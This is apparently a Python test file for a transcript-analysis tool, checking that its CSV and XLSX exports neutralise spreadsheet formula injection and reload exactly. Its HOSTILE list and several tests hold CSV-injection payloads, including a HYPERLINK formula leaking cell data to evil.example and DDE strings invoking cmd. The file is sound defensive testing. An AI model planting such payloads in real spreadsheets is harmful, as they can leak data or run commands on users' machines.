"""Every table the tool writes: no cell runs as a formula in a spreadsheet, and the tool reads it back exactly.

Hostile cells are the ones OWASP's CSV-injection guidance names: a text beginning ``=``, ``+``, ``-``,
``@``, tab or carriage return.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wisdoms._tables import FORMULA_STARTS, append_row, csv_text, read_csv_rows, read_xlsx_rows
from wisdoms.models import Passage

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click for your payment")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already guarded", "''=twice", "'plain quote"]


def _raw_csv_cells(text: str) -> list[str]:
    """Every cell as a spreadsheet would see it (no unguarding)."""
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for c in row]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


def _formula_cells(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path)  # not read-only: data_type is what Excel would see
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


# --- the codec ---------------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                                 max_size=12), min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_csv_table_reads_back_exactly_and_no_cell_starts_a_formula(rows):
    text = csv_text(None, rows)
    assert not [c for c in _raw_csv_cells(text) if _runs_as_formula(c)]
    back = read_csv_rows(text=text)
    assert back == rows


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@'\t\rab1 \"")), max_size=8), min_size=1, max_size=6))
def test_any_xlsx_row_reads_back_exactly_and_holds_no_formula(tmp_path_factory, cells):
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    append_row(book.active, cells)
    path = tmp_path_factory.mktemp("x") / "t.xlsx"
    book.save(path)
    assert _formula_cells(path) == []
    back = read_xlsx_rows(load_workbook(path, read_only=True, data_only=True).active)[0]
    assert ["" if c is None else c for c in back] == cells


def test_numbers_are_left_as_numbers_and_an_apostrophe_before_ordinary_text_is_kept():
    assert _raw_csv_cells(csv_text(["a", "b", "c"], [[-3, 0.5, "'Twas"]]))[3:] == ["-3", "0.5", "'Twas"]


# --- every writer ------------------------------------------------------------------------------------


def _hostile_analysis():
    passages = [Passage(id=f"t.txt#{i}-{i + 5}", transcript="t.txt", participant=f"=P{i}", start=i, end=i + 5,
                        text=text, turn=i) for i, text in enumerate(HOSTILE)]
    theme = SimpleNamespace(id=1, label="=HYPERLINK(\"x\")", passage_ids=[p.id for p in passages])
    return SimpleNamespace(passages=passages, themes=[theme], unassigned=[], matches=[])


def test_passages_csv_guards_hostile_cells_and_the_run_folder_reader_gets_them_back(tmp_path):
    from wisdoms.report.contract import passages_csv
    from wisdoms.report.rundir import read_run_folder

    text = passages_csv(_hostile_analysis())
    assert not [c for c in _raw_csv_cells(text) if _runs_as_formula(c)]
    (tmp_path / "passages.csv").write_text(text, encoding="utf-8")
    (tmp_path / "themes.json").write_text("{}", encoding="utf-8")
    (tmp_path / "manifest.json").write_text("{}", encoding="utf-8")
    rows = read_run_folder(tmp_path).passages
    assert [r["text"] for r in rows] == HOSTILE
    assert rows[0]["participant"] == "=P0" and rows[0]["theme_label"] == "=HYPERLINK(\"x\")"


def test_framework_matrix_csv_guards_hostile_cells():
    from wisdoms.report.contract import framework_matrix_csv

    view = SimpleNamespace(matrix_people=["=P1", "@P2"],
                           matrix_themes=[SimpleNamespace(theme=SimpleNamespace(id=1), label="-minus")],
                           matrix_cells={("=P1", 1): ("=1+1", "t.txt:1-5"), ("@P2", 1): ("+cmd", "t.txt:6-9")})
    for text in (framework_matrix_csv(view), framework_matrix_csv(view, draft="NOT FOR SHARING")):
        cells = _raw_csv_cells(text)
        assert "'=P1" in cells and "'@P2" in cells
        assert not [c for c in cells if _runs_as_formula(c)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_codebook_tables_hold_no_formula_and_load_back_exactly(tmp_path, suffix):
    from wisdoms.codebook import load_codebook, save_codebook
    from wisdoms.codebook._model import Codebook
    from wisdoms.models import Code

    code = Code(id="c1", name="=HYPERLINK(\"http://evil.example\",\"Open\")", definition="-starts with a minus",
                include="@mention", exclude="+plus", examples=("=1+1", "'=quoted"))
    book = Codebook(codes=(code,), name="hostile", version="1")
    path = save_codebook(book, tmp_path / f"codes{suffix}")
    if suffix == ".xlsx":
        assert _formula_cells(path) == []
    else:
        assert not [c for c in _raw_csv_cells(path.read_text(encoding="utf-8")) if _runs_as_formula(c)]
    back = load_codebook(path).codes[0]
    assert (back.name, back.definition, back.include, back.exclude, back.examples) == (
        code.name, code.definition, code.include, code.exclude, code.examples)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_codebook_review_sheet_reads_back_its_own_hostile_rows(tmp_path, suffix):
    from openpyxl import load_workbook

    from wisdoms.codebook.decisions import read_review_sheet, write_review_sheet

    rows = [{"target_id": "=7", "text": HOSTILE[0], "code": "c1", "code_name": "@name", "score": 0.61, "suggested": "yes"}]
    path = write_review_sheet(rows, tmp_path / f"review{suffix}")
    if suffix == ".xlsx":
        assert _formula_cells(path) == []
        book = load_workbook(path)
        book.active.cell(row=2, column=7).value = "confirm"
        book.save(path)
    else:
        table = read_csv_rows(path)
        table[1][6] = "confirm"
        path.write_text(csv_text(table[0], table[1:]), encoding="utf-8")
        assert not [c for c in _raw_csv_cells(path.read_text(encoding="utf-8")) if _runs_as_formula(c)]
    [decision] = read_review_sheet(path, who="AB", today="2025-01-02")
    assert (decision.target_id, decision.code, decision.verdict) == ("=7", "c1", "confirm")


def test_privacy_scan_tables_guard_hostile_cells_and_the_review_reads_back(tmp_path):
    from openpyxl import load_workbook

    from wisdoms.privacy.detectors import Finding
    from wisdoms.privacy.review import read_review
    from wisdoms.privacy.scan import ScanResult, write_outputs

    text = "=HYPERLINK(\"x\") said Kelly"
    finding = Finding(source="=row1", start=0, end=15, text=text[:15], type="NAME", detector="@rule")
    paths = write_outputs(ScanResult(findings=(finding,), texts={"=row1": text}), tmp_path / "f.csv")
    for key in ("findings", "review_csv", "summary"):
        cells = _raw_csv_cells(paths[key].read_text(encoding="utf-8"))
        assert not [c for c in cells if _runs_as_formula(c)], key
    assert _formula_cells(paths["review_xlsx"]) == []
    book = load_workbook(paths["review_xlsx"])
    header = [c.value for c in book.active[1]]
    book.active.cell(row=2, column=header.index("decision") + 1).value = "keep"
    book.active.cell(row=2, column=header.index("reviewer") + 1).value = "CD"
    book.save(paths["review_xlsx"])
    [decision] = read_review(paths["review_xlsx"])
    assert (decision.source, decision.text) == ("=row1", text[:15])


def test_panel_response_sheets_hold_no_formula_and_a_hostile_rename_is_recorded_exactly(tmp_path):
    from wisdoms.panel.decisions import parse_responses
    from wisdoms.panel.pack import responses_csv, responses_xlsx

    cards = [{"number": 1, "theme": 4, "label": "=HYPERLINK(\"http://evil.example\",\"Open\")",
              "quotes": [{"citation": "t.txt:1-9"}]}]
    xlsx = tmp_path / "responses.xlsx"
    xlsx.write_bytes(responses_xlsx(cards))
    assert _formula_cells(xlsx) == []
    text = responses_csv(cards)
    assert not [c for c in _raw_csv_cells(text) if _runs_as_formula(c)]
    table = read_csv_rows(text=text.lstrip("\ufeff"))
    table[1][2:4] = ["partly", "=HYPERLINK(\"http://evil.example\",\"Renamed\")"]
    (tmp_path / "r.csv").write_text(csv_text(table[0], table[1:]), encoding="utf-8")
    [verdict], _ = parse_responses(tmp_path / "r.csv")
    assert verdict["outcome"] == "renamed" and verdict["new_label"] == table[1][3]
    assert verdict["label"] == cards[0]["label"]


def test_coding_output_guards_hostile_ids_and_keeps_scores_numeric(tmp_path):
    from wisdoms.codebook.coding import write_coding

    path = write_coding([{"id": "=1+1", "code": "c1", "score": -0.25, "assigned": True, "evidence": "@x"}],
                        tmp_path / "coded.csv")
    cells = _raw_csv_cells(path.read_text(encoding="utf-8"))
    assert cells[5:] == ["'=1+1", "c1", "-0.25", "true", "'@x"]


def test_privacy_apply_copy_of_a_table_is_guarded_and_scans_back_to_the_same_texts(tmp_path):
    from wisdoms.privacy.scan import read_table

    source = tmp_path / "rows.csv"
    source.write_text(csv_text(["id", "text"], [["r1", "=HYPERLINK(\"x\") from Kelly"], ["r2", "-fine"]]),
                      encoding="utf-8")
    table = read_table(source)
    assert [r["text"] for r in table.records] == ["=HYPERLINK(\"x\") from Kelly", "-fine"]
